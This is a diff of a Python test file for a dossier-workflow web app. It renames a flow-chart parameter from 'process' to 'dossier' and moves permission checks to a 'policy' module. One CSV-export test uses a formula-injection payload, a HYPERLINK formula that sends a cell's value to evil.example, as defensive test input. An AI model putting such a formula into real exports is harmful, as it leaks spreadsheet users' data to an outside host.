@@ -22,10 +22,10 @@ from web.forms import (
     ACTION_INPUT_INVALID,
     BALLOT_TARGET_INVALID,
     BALLOT_YEAR_REQUIRED,
+    DOSSIER_INVALID,
     NOMINEES_INVALID,
-    PROCESS_INVALID,
 )
-from workflows.models import DossierProcess
+from workflows import policy
 
 AUDIT_API = "/api/v1/audit/events/"
 NUL = "Null characters are not allowed."
@@ -187,7 +187,7 @@ def test_csv_export_prefixes_a_formula_in_a_reason(world, api):
     dossier = next(
         d
         for d in Dossier.objects.filter(state=DossierState.INTAKE).order_by("pk")
-        if "return" in permissions.dossier_actions(officer, d)
+        if "return" in policy.actions(officer, d)
     )
     reason = '=HYPERLINK("http://evil.example/?d="&A1,"Xem")'
     response = api("board-officer").post(
@@ -209,20 +209,20 @@ def test_csv_export_prefixes_a_formula_in_a_reason(world, api):
 
 
 @pytest.mark.parametrize("value", ["²", "%00", "-1", "0", "1.5", "abc", "9" * 30])
-def test_flow_chart_refuses_a_bad_process(world, nothing_written, value):
+def test_flow_chart_refuses_a_bad_dossier(world, nothing_written, value):
     client = page_client(world, "inspector")
     with nothing_written():
-        response = client.get(f"/flow.svg?process={value}")
+        response = client.get(f"/flow.svg?dossier={value}")
     assert response.status_code == 400
-    assert response.content.decode() == gettext(str(PROCESS_INVALID))
+    assert response.content.decode() == gettext(str(DOSSIER_INVALID))
 
 
 def test_flow_chart_still_draws(world):
     client = page_client(world, "inspector")
     assert client.get("/flow.svg").status_code == 200
-    process = DossierProcess.objects.order_by("pk").first()
-    assert client.get(f"/flow.svg?process={process.pk}").status_code == 200
-    assert client.get("/flow.svg?process=").status_code == 200
+    dossier = Dossier.objects.order_by("pk").first()
+    assert client.get(f"/flow.svg?dossier={dossier.pk}").status_code == 200
+    assert client.get("/flow.svg?dossier=").status_code == 200
 
 
 # --- dossier actions on the page: the API's validation ------------------------------------------
@@ -233,7 +233,7 @@ def _intake_dossier(world) -> Dossier:
     return next(
         d
         for d in Dossier.objects.filter(state=DossierState.INTAKE).order_by("pk")
-        if {"return", "accept"} <= set(permissions.dossier_actions(officer, d))
+        if {"return", "accept"} <= set(policy.actions(officer, d))
     )
 
 
